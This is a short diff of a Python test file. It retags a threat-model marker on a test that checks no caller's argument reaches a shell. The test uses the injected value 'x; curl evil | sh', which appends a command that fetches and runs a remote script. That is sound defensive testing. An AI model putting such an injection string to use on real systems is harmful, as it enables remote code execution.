@@ -157,7 +157,7 @@ async def test_four_nodes_are_cleaned_one_after_the_other(
         assert ends == sorted(ends) == [3, 7, 11, 15]
 
 
-@pytest.mark.threat("T9")
+@pytest.mark.threat("T1")
 async def test_no_argument_of_a_caller_reaches_a_shell(monkeypatch: pytest.MonkeyPatch, folder: Path) -> None:
     async with whole("disk-pressure", 2, monkeypatch, folder) as stage:
         bad = "x; curl evil | sh"
